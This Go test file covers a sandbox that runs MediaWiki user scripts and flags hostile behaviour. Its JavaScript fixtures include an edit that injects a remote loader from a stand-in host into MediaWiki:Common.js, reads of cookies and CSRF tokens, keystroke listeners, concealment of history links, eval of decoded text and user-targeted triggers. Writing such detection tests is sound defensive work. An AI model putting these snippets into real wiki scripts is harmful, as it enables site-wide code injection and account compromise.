package sandbox

import (
	"context"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"sallyport/internal/browser"
	"sallyport/internal/trace"
)

// look runs a script at a tier.
func lookAt(t *testing.T, tier Tier, text string) *Result {
	t.Helper()
	s, err := New(Options{Tier: tier, Browser: browser.Options{Proof: proofFor(t)}, Now: time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)})
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.Run(context.Background(), Script{Path: "x.js", Title: "User:Mara/x.js", Text: text})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func TestAScriptThatDoesNothingIsSaidToDoNothing(t *testing.T) {
	r := lookAt(t, Quick, "mw.util.addPortletLink( 'p-tb', '/wiki/Harbour', 'Harbour', 't-lamp' );\n").Report
	if r.Verdict != trace.NothingSeen || len(r.Findings)+len(r.Hosts)+len(r.Writes) > 0 || r.Coverage != 1 {
		t.Errorf("%s, coverage %.2f: %v %v %v %v", r.Verdict, r.Coverage, r.Reasons, r.Findings, r.Hosts, r.Writes)
	}
	if r.Visits.Baselines == 0 || len(r.Visits.Personas) < 4 {
		t.Errorf("looked at as %v, with %d baselines", r.Visits.Personas, r.Visits.Baselines)
	}
}

func TestWhatHappensIsToldWithItsStageAndPlace(t *testing.T) {
	r := lookAt(t, Quick, `var go = ( page ) => new mw.Api().postWithToken( 'csrf', { action: 'edit', title: page, text: 'x' } );
go( 'At once' );
setTimeout( () => go( 'After a day' ), 864e5 );
$( '<button>Press</button>' ).on( 'click', () => go( 'On a click' ) ).prependTo( '#bodyContent' );
if ( md5of( mw.config.get( 'wgUserName' ) ) === 'x' ) {
	go( 'Behind a condition' );
}
function md5of( s ) { return s + s; }
`)
	want := map[string]trace.Stage{"At once": trace.Natural, "After a day": trace.Clock, "On a click": trace.Explored, "Behind a condition": trace.Forced}
	got := map[string]trace.Stage{}
	for _, w := range r.Report.Writes {
		if had, ok := got[w.Title]; !ok || had == trace.Forced {
			got[w.Title] = w.Stage
		}
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	lines := map[string]int{}
	for _, e := range r.Log.Of(trace.PageWrite) {
		if e.Script == nil {
			t.Errorf("it is not known where %q comes from", e.Data.Title)
			continue
		}
		lines[e.Data.Title] = e.Script.Line
	}
	if lines["At once"] != 1 { // the innermost place: the function that writes
		t.Errorf("places %v", lines)
	}
	if i := slices.IndexFunc(r.Log.Of(trace.Gate), func(e *trace.Event) bool { return e.Script.Line == 5 && strings.HasPrefix(e.Data.Text, "md5of(") }); i < 0 {
		t.Error("the turned condition is not told with its place")
	}
}

// What no run could reach is called in the end, as if somebody had wanted it: what nobody can want is hostile even so, the rest is not
// held against it. It does not count as covered.
func TestWhatNothingCallsIsCalledInTheEnd(t *testing.T) {
	const asks = `const board = new Map( [ [ 'x', 1 ] ] );
$.get( '/w/index.php?title=Project:Board&action=raw' ).then( ( text ) => text.split( '\n' ).forEach( ( line ) => doings[ line.split( '#' )[ 1 ] ]?.( line ) ) );
`
	hostile := lookAt(t, Quick, asks+`const doings = {
	async lamp( line ) {
		const page = [ 'MediaWiki', 'Common.js' ].join( ':' );
		await new mw.Api().postWithToken( 'csrf', { action: 'edit', title: page, appendtext: 'mw.loader.load( "https://collect.test/x.js" );' } );
	}
};
`).Report
	if hostile.Verdict != trace.Hostile || hostile.Functions.Ran == hostile.Functions.Total {
		t.Errorf("%s: %v, %+v", hostile.Verdict, hostile.Reasons, hostile.Functions)
	}
	if !slices.ContainsFunc(hostile.Findings, func(f trace.Finding) bool {
		return f.Stage == trace.Forced && f.Rule == "site-code" && f.Gate != nil && strings.Contains(f.Gate.Text, "function lamp in line 4")
	}) {
		t.Errorf("%+v", hostile.Findings)
	}
	harmless := lookAt(t, Quick, asks+`class Doings {
	lamp( line ) { return new mw.Api().postWithToken( 'csrf', { action: 'delete', title: line.title } ); }
	forever( list ) { for ( let at = list; at; at = at.next ) { this.last = at; } }
}
const doings = new Doings();
`).Report
	if harmless.Verdict != trace.NothingSeen && harmless.Verdict != trace.Unknown {
		t.Errorf("%s: %v", harmless.Verdict, harmless.Reasons)
	}
}

func TestTextThatBecomesCodeIsToldWithWhereItCameFrom(t *testing.T) {
	r := lookAt(t, Quick, `eval( "window.lamp1 = 'written down here'" );
eval( atob( 'd2luZG93LmxhbXAyID0gJ2RlY29kZWQgdGV4dCc=' ) );
fetch( 'https://else.test/code.txt' ).then( ( r ) => r.text() ).then( () => new Function( 'window.lamp3 = "a function of its own"' )() );
setTimeout( 'window.lamp4 = "a string of a timer"', 10 );
`)
	got := map[string]string{}
	for _, e := range r.Log.Of(trace.ScriptEval) {
		for _, lamp := range []string{"lamp1", "lamp2", "lamp3", "lamp4"} {
			if strings.Contains(e.Data.Text, lamp) {
				got[lamp] = e.Data.From
			}
		}
	}
	if diff := cmp.Diff(map[string]string{"lamp1": "literal", "lamp2": "decoded", "lamp3": "literal", "lamp4": "literal"}, got); diff != "" {
		t.Error(diff)
	}
}

func TestWhatIsReadKeptHiddenAndListenedToIsTold(t *testing.T) {
	log := lookAt(t, Quick, `document.cookie;
localStorage.setItem( 'lamp', 'on' );
mw.user.tokens.get( 'csrfToken' );
document.addEventListener( 'keydown', () => {} );
$( document ).on( 'keyup.lamp', () => {} );
$( '#ca-history' ).hide();
window.fetch = function () {};
new RTCPeerConnection();
`).Log
	var got []string
	for _, e := range log.Of(trace.CookieRead, trace.Storage, trace.TokenRead, trace.Listen, trace.Conceal, trace.Persist, trace.Peer) {
		line := strings.Join([]string{string(e.Kind), e.Data.Action, e.Data.Name, e.Data.On}, " ")
		if !slices.Contains(got, line) {
			got = append(got, line)
		}
	}
	for _, want := range []string{"cookie.read   ", "storage set lamp localStorage", "token.read  csrfToken ", "listen  keydown document", "listen  keyup document", "conceal  #ca-history ", "persist  replaces fetch ", "rtc  RTCPeerConnection "} {
		if !slices.Contains(got, want) {
			t.Errorf("%q is not told; told is %q", want, got)
		}
	}
}

func TestWhatAScriptAsksForIsReadFromItsConditions(t *testing.T) {
	s, err := New(Options{Now: time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)})
	if err != nil {
		t.Fatal(err)
	}
	u := s.read(Script{Path: "x.js", Text: `if ( mw.config.get( 'wgUserName' ) === 'mara_Quell' && mw.config.get( 'wgUserGroups' ).includes( 'checkuser' ) ) { a(); }
if ( mw.config.get( 'wgNamespaceNumber' ) === 8 || mw.config.get( 'wgAction' ) === 'history' ) { b(); }
if ( location.hostname === 'en.target.example' && new Date() > new Date( '2027-03-01' ) ) { c(); }
if ( localStorage.getItem( 'lamp' ) === 'on' && document.querySelector( 'table#lamp .row' ) ) { d(); }`})
	d := u.demand
	if diff := cmp.Diff([]string{"Mara Quell"}, d.users); diff != "" {
		t.Error(diff)
	}
	if len(u.people) != 1 || !slices.Contains(u.people[0].Groups, "checkuser") || u.wanted.Name == "" {
		t.Errorf("people %+v, wanted %+v", u.people, u.wanted)
	}
	if !slices.ContainsFunc(d.pages, func(p Page) bool { return strings.HasPrefix(p.Title, "MediaWiki:") }) || !slices.ContainsFunc(d.pages, func(p Page) bool { return p.Query == "action=history" }) {
		t.Errorf("pages %+v", d.pages)
	}
	if len(d.hosts) != 1 || d.hosts[0] != "en.target.example" || len(d.clocks) == 0 || d.clocks[0].Year() != 2027 || d.storage["lamp"] != "on" {
		t.Errorf("hosts %v, clocks %v, storage %v", d.hosts, d.clocks, d.storage)
	}
	if honey := s.honey(u); len(honey) != 1 || honey[0].HTML != `<table id="lamp"><div class="row">lamp</div></table>` && !strings.Contains(honey[0].HTML, `class="row"`) {
		t.Errorf("elements %+v", honey)
	}
}

func TestATitleIsGuessedFromAPath(t *testing.T) {
	for path, want := range map[string]string{
		"User/Mara/x.js": "User:Mara/x.js", "wikis/MediaWiki/Gadget-lamp.js": "MediaWiki:Gadget-lamp.js", "User:Mara/x.js": "User:Mara/x.js", "tools/lamp.js": "User:Skript Keeper/lamp.js",
		"stdin": "User:Skript Keeper/stdin.js",
	} {
		if got := titleOf(path); got != want {
			t.Errorf("%s: %s, not %s", path, got, want)
		}
	}
}
